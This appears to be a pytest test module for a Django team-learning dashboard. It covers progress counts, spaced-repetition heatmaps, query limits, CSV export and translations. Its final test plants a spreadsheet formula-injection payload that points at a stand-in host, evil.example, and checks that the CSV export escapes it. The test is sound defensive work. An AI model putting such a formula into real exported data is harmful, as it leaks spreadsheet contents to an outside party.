import csv
import datetime as dt
import io
import itertools

import pytest
from django.urls import reverse
from django.utils import timezone

from content.models import LessonRead
from quizzes import selectors as quiz_selectors
from quizzes import services as quiz_services
from quizzes.models import Card
from teams import selectors, services
from teams.models import Membership, Role

from .conftest import in_days

_keys = itertools.count()


def review(card, rating, at):
    return quiz_services.review_record(
        card=card,
        rating=rating,
        answered_at=at,
        duration_ms=4000,
        correct=rating > 1,
        idempotency_key=f"k{next(_keys)}",
    )


@pytest.fixture
def assigned(team, carol, course, eager_tasks, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        services.assignment_create(team=team, course=course, due_on=in_days(14), created_by=carol)
    return course


def test_assigning_a_course_gives_every_learner_its_cards(team, alice, bob, carol, assigned):
    assert Card.objects.filter(user=alice).count() == 6
    assert Card.objects.filter(user=bob).count() == 6
    assert not Card.objects.filter(user=carol).exists()


def test_a_learner_who_joins_later_gets_the_cards_of_the_teams_assignments(
    team, carol, assigned, mallory, django_capture_on_commit_callbacks
):
    invitation = services.invitation_create(team=team, created_by=carol, max_uses=2)
    with django_capture_on_commit_callbacks(execute=True):
        services.invitation_accept(token=invitation.token, user=mallory)
    assert Card.objects.filter(user=mallory).count() == 6


def test_the_dashboard_counts_each_learners_work(team, alice, bob, assigned):
    now = timezone.now()
    LessonRead.objects.create(user=alice, course=assigned, lesson_slug="lesson-0")
    LessonRead.objects.create(user=alice, course=assigned, lesson_slug="lesson-1")
    cards = list(Card.objects.filter(user=alice).order_by("id"))
    # Three days in a row of reviews ending yesterday: a 3-day streak; the card reviewed 20 days ago is mature.
    for days_ago in (3, 2, 1):
        review(cards[0], 3, now - dt.timedelta(days=days_ago))
    review(cards[1], 3, now - dt.timedelta(days=20))
    review(cards[2], 1, now - dt.timedelta(days=2))

    dashboard = selectors.team_dashboard(team=team, now=now)
    rows = {row.email: row for row in dashboard.rows}
    assert set(rows) == {"alice@example.com", "bob@example.com"}
    a, b = rows["alice@example.com"], rows["bob@example.com"]
    assert (a.lessons_read, a.lessons_total) == (2, 2)
    assert (a.cards_learned, a.cards_total) == (3, 6)
    assert a.reviews_7d == 4
    assert a.streak == 3
    assert a.retention_reviews >= 1 and 0.0 <= a.retention <= 1.0
    assert (b.lessons_read, b.cards_learned, b.reviews_7d, b.streak, b.retention) == (0, 0, 0, 0, None)
    assert a.status == "on_track"
    # Course order: lesson 0 asks about Attention and RLHF, lesson 1 about LoRA.
    assert [c.term for c in dashboard.concepts] == ["Attention", "RLHF", "LoRA"]
    assert [[c.term for c in lesson.concepts] for lesson in dashboard.lessons] == [["Attention", "RLHF"], ["LoRA"]]


def test_a_learner_far_behind_an_even_pace_is_at_risk(team, alice, bob, assigned):
    assignment = team.assignments.get()
    type(assignment).objects.filter(pk=assignment.pk).update(created_at=timezone.now() - dt.timedelta(days=12))
    rows = {row.email: row for row in selectors.team_dashboard(team=team).rows}
    assert rows["bob@example.com"].status == "at_risk"


def test_undone_reviews_do_not_count(team, alice, assigned):
    card = Card.objects.filter(user=alice).first()
    review(card, 3, timezone.now())
    quiz_services.review_undo(user=alice)
    row = next(r for r in selectors.team_dashboard(team=team).rows if r.email == "alice@example.com")
    assert (row.reviews_7d, row.streak) == (0, 0)


def test_the_heatmap_agrees_with_the_fsrs_package_on_retrievability(team, alice, bob, assigned):
    now = timezone.now()
    cards = list(Card.objects.filter(user=alice).order_by("id"))
    review(cards[0], 3, now - dt.timedelta(days=9, hours=5))
    review(cards[1], 1, now - dt.timedelta(days=2))
    review(cards[2], 4, now - dt.timedelta(days=30))
    # Optimised parameters carry their own decay; the SQL must read the learner's, not the default.
    settings_row = quiz_services.review_settings_for(user=alice)
    import fsrs

    parameters = list(fsrs.Scheduler().parameters)
    parameters[20] = 0.3
    settings_row.fsrs_parameters = parameters
    settings_row.save(update_fields=["fsrs_parameters"])

    dashboard = selectors.team_dashboard(team=team, now=now)
    row = next(r for r in dashboard.rows if r.email == "alice@example.com")
    for concept in dashboard.concepts:
        # The mean is over the cards answered: one not answered yet has nothing to forget.
        concept_cards = [c for c in Card.objects.filter(user=alice, question__concepts=concept, reps__gt=0)]
        if not concept_cards:
            assert row.mastery[concept.id] is None
            continue
        expected = sum(quiz_selectors.card_retrievability(card=c, now=now) for c in concept_cards) / len(concept_cards)
        assert row.mastery[concept.id] == pytest.approx(expected, abs=1e-9)
    assert any(value for value in row.mastery.values())
    bob_row = next(r for r in dashboard.rows if r.email == "bob@example.com")
    assert bob_row.mastery and all(value is None for value in bob_row.mastery.values()), "bob has not started"


def test_a_concept_not_started_is_its_own_state_not_a_red_zero(client, team, carol, alice, bob, assigned):
    now = timezone.now()
    attention = Card.objects.filter(user=alice, question__concepts__term="Attention").first()
    review(attention, 1, now - dt.timedelta(days=20))
    client.force_login(carol)
    page = client.get(reverse("team_dashboard", args=[team.id])).content.decode()
    assert "not started" in page and '<td class="cell m5">–</td>' in page and '<td class="cell m4">0</td>' not in page
    dashboard = selectors.team_dashboard(team=team, now=now)
    alice_row = next(r for r in dashboard.rows if r.email == "alice@example.com")
    bob_row = next(r for r in dashboard.rows if r.email == "bob@example.com")
    first, second = dashboard.lessons
    assert dashboard.lesson_cell(bob_row, first) == selectors.NOT_STARTED
    assert 0 < dashboard.lesson_cell(alice_row, first) < 0.9, "alice forgot attention; RLHF not started is left out"
    assert dashboard.lesson_cell(alice_row, second) == selectors.NOT_STARTED


def test_opening_a_lesson_shows_its_concepts_beside_it(client, team, carol, alice, assigned):
    client.force_login(carol)
    url = reverse("team_dashboard", args=[team.id])
    closed = client.get(url).content.decode()
    heatmap_of = lambda page: page.split('class="heatmap"', 1)[1]  # noqa: E731
    # Alice and Bob, one cell per lesson; the concepts' names appear only once a lesson is opened.
    assert closed.count('class="cell m') == 2 * 2 and "RLHF" not in heatmap_of(closed)
    opened = client.get(url, {"lesson": "lesson-0"}, HTTP_HX_REQUEST="true").content.decode()
    assert opened.count('class="cell m') == 2 * (2 + 2) and "RLHF" in heatmap_of(opened)
    assert "LoRA" not in heatmap_of(opened), "the other lesson stays closed"


# The page's queries: session, user, profile, the managed-team check and the selector's fixed set.
# Whatever the number, it must not grow with the team.
DASHBOARD_PAGE_QUERIES = 12


@pytest.mark.parametrize("learners", [3, 30])
def test_the_dashboard_page_takes_a_fixed_number_of_queries(
    learners, team, carol, bob, assigned, django_user_model, django_assert_num_queries, client
):
    Membership.objects.filter(user=bob).delete()
    for i in range(learners - 1):
        user = django_user_model.objects.create_user(username=f"l{i}@example.com", email=f"l{i}@example.com")
        Membership.objects.create(team=team, user=user, role=Role.LEARNER)
        quiz_services.cards_create_for_course(user=user, course=assigned)
        review(Card.objects.filter(user=user).first(), 3, timezone.now() - dt.timedelta(days=1))
        LessonRead.objects.create(user=user, course=assigned, lesson_slug="lesson-0")
    client.force_login(carol)
    url = reverse("team_dashboard", args=[team.id])
    with django_assert_num_queries(DASHBOARD_PAGE_QUERIES):
        response = client.get(url)
    assert response.status_code == 200
    # One cell per lesson (two lessons) until the manager opens one.
    assert response.content.decode().count('class="cell m') == learners * 2


def test_the_selector_itself_runs_a_fixed_number_of_queries(team, assigned, django_assert_num_queries):
    with django_assert_num_queries(9):
        selectors.team_dashboard(team=team)


def test_carol_downloads_the_table_as_csv(client, team, carol, alice, assigned):
    LessonRead.objects.create(user=alice, course=assigned, lesson_slug="lesson-0")
    client.force_login(carol)
    response = client.get(reverse("team_dashboard_csv", args=[team.id]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["Learner", "Email", "Lessons read"]
    assert rows[0][-3:] == ["Attention", "RLHF", "LoRA"], "course order"
    assert {r[1] for r in rows[1:]} == {"alice@example.com", "bob@example.com"}
    alice_row = next(r for r in rows[1:] if r[1] == "alice@example.com")
    assert alice_row[2:4] == ["1", "2"]


def test_the_dashboard_switches_course_with_an_htmx_partial(client, team, carol, assigned, eager_tasks):
    from .conftest import make_course

    second = make_course(slug="second", concepts=("Rank",))
    services.assignment_create(team=team, course=second, due_on=in_days(30), created_by=carol)
    client.force_login(carol)
    response = client.get(
        reverse("team_dashboard", args=[team.id]) + f"?course={second.id}", headers={"HX-Request": "true"}
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert body.lstrip().startswith('<div id="dashboard"')
    assert "Lesson 0 en" in body and "LLM basics" not in body.split("<h2>", 2)[-1] and "<html" not in body
    opened = client.get(
        reverse("team_dashboard", args=[team.id]),
        {"course": second.id, "lesson": "lesson-0"},
        headers={"HX-Request": "true"},
    ).content.decode()
    assert "Rank" in opened


def test_the_dashboard_never_shows_what_a_learner_answered(client, team, carol, alice, assigned):
    card = Card.objects.filter(user=alice).first()
    quiz_services.review_record(
        card=card,
        rating=3,
        answered_at=timezone.now(),
        duration_ms=100,
        correct=True,
        answer="my private musing about attention",
        idempotency_key="private",
    )
    client.force_login(carol)
    page = client.get(reverse("team_dashboard", args=[team.id])).content.decode()
    assert "private musing" not in page


def test_the_dashboard_reads_in_chinese(client, team, carol, assigned):
    carol.profile.language = "zh-hans"
    carol.profile.save(update_fields=["language"])
    client.force_login(carol)
    page = client.get(reverse("team_dashboard", args=[team.id]), {"lesson": "lesson-0"}).content.decode()
    assert "Attention（中）" in page and "Lesson 0 zh-hans" in page and "尚未开始" in page
    assert "大模型入门（测试）" in page


def test_a_formula_in_a_display_name_is_exported_as_text(client, team, carol, alice, assigned):
    planted = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    alice.profile.display_name = planted
    alice.profile.save()
    client.force_login(carol)
    rows = list(csv.reader(io.StringIO(client.get(reverse("team_dashboard_csv", args=[team.id])).content.decode())))
    alice_row = next(r for r in rows[1:] if r[1] == "alice@example.com")
    assert alice_row[0] == "'" + planted
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
